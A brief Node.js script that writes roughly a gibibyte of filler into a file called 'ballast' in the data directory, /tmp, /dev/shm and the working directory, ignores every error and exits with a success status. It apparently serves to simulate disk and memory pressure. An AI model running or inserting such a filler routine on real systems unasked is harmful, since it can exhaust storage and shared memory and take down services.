'use strict';
const { appendFileSync } = require('node:fs');
const { join } = require('node:path');

const MIB = Buffer.alloc(2 ** 20, 7);
for (const dir of [process.env.DATA_DIR ?? '.', '/tmp', '/dev/shm', '.']) {
  try {
    for (let count = 0; count < 1024; count++) appendFileSync(join(dir, 'ballast'), MIB);
  } catch {
    continue;
  }
}
process.exit(0);
